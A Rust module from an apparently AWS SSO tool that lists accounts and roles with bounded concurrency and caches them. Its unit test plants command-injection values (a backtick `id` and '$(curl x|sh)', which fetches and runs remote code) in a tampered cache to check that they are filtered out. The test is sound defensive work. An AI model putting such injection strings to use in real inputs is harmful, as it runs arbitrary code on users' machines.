//! Discovery: every account and role the user may use, listed through the portal with
//! a bounded number of calls in flight, and kept (without any secret) with the time it
//! was fetched, so the app can show it at once and say how old it is.

use std::path::{Path, PathBuf};
use std::time::SystemTime;

use serde::{Deserialize, Serialize};
use tokio::task::JoinSet;

use super::portal::{Account, Portal, PortalError};
use crate::aws_names::{is_account_id, is_role_name};
use crate::safe_write::{StagedWrite, short_hash};
use crate::timestamps::epoch_seconds;
use crate::vault::{Secret, SessionKey};

/// Role listings in flight at once: enough to finish 2,000 accounts in seconds, few
/// enough that the portal's rate limit is met by backoff rather than a storm.
pub const CONCURRENT_CALLS: usize = 8;

/// One account and the roles the user has in it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AccountRoles {
    pub account: Account,
    pub roles: Vec<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Discovery {
    #[serde(with = "epoch_seconds")]
    pub fetched_at: SystemTime,
    /// Sorted by account name (then id), as the AWS CLI lists them.
    pub accounts: Vec<AccountRoles>,
}

impl Discovery {
    /// Lists every account, then the roles of each, at most [`CONCURRENT_CALLS`] at a
    /// time. A throttled call waits and retries inside the portal client.
    pub async fn fetch(portal: &Portal, token: &Secret) -> Result<Self, PortalError> {
        let accounts = portal.accounts(token).await?;
        let mut listings = JoinSet::new();
        let mut found = Vec::with_capacity(accounts.len());
        for account in accounts {
            if listings.len() >= CONCURRENT_CALLS {
                found.push(next(&mut listings).await?);
            }
            let (portal, token) = (portal.clone(), token.clone());
            listings.spawn(async move {
                let roles = portal.roles(&token, &account.id).await?;
                Ok(AccountRoles { account, roles })
            });
        }
        while !listings.is_empty() {
            found.push(next(&mut listings).await?);
        }
        found.sort_by_key(|entry| {
            (
                entry.account.name.as_deref().map(str::to_lowercase),
                entry.account.id.clone(),
            )
        });
        Ok(Self {
            fetched_at: SystemTime::now(),
            accounts: found,
        })
    }

    /// The last discovery of `key` kept in `data_dir`, if any.
    /// An account or role of a shape AWS never gives (a file edited by hand or by
    /// another program) is left out.
    pub fn cached(data_dir: &Path, key: &SessionKey) -> Option<Self> {
        let text = std::fs::read_to_string(cache_file(data_dir, key)).ok()?;
        let mut kept: Self = serde_json::from_str(&text).ok()?;
        kept.accounts
            .retain(|entry| is_account_id(&entry.account.id));
        for entry in &mut kept.accounts {
            entry.roles.retain(|role| is_role_name(role));
        }
        Some(kept)
    }

    pub fn keep(&self, data_dir: &Path, key: &SessionKey) -> std::io::Result<()> {
        let text = serde_json::to_vec_pretty(self).map_err(std::io::Error::other)?;
        StagedWrite::new(&cache_file(data_dir, key), &text)?.commit()
    }

    pub fn role_count(&self) -> usize {
        self.accounts.iter().map(|entry| entry.roles.len()).sum()
    }
}

async fn next(
    listings: &mut JoinSet<Result<AccountRoles, PortalError>>,
) -> Result<AccountRoles, PortalError> {
    match listings.join_next().await {
        Some(Ok(outcome)) => outcome,
        Some(Err(join)) => Err(PortalError::Refused(format!(
            "a listing task failed: {join}"
        ))),
        None => Err(PortalError::Refused("no listing in flight".to_owned())),
    }
}

fn cache_file(data_dir: &Path, key: &SessionKey) -> PathBuf {
    data_dir
        .join("discovery")
        .join(format!("{}.json", short_hash(&key.item_name())))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_kept_listing_edited_to_hold_a_shell_command_is_read_without_it() {
        let data = tempfile::tempdir().unwrap();
        let key = SessionKey::SsoSession("corp".to_owned());
        let account = |id: &str, roles: &[&str]| AccountRoles {
            account: Account {
                id: id.to_owned(),
                name: None,
                email: None,
            },
            roles: roles.iter().map(|role| (*role).to_owned()).collect(),
        };
        let tampered = Discovery {
            fetched_at: SystemTime::UNIX_EPOCH,
            accounts: vec![
                account("111122223333", &["Admin", "x`id`"]),
                account("$(curl x|sh)", &["Admin"]),
            ],
        };
        tampered.keep(data.path(), &key).unwrap();
        let read = Discovery::cached(data.path(), &key).unwrap();
        assert_eq!(read.accounts, [account("111122223333", &["Admin"])]);
    }
}
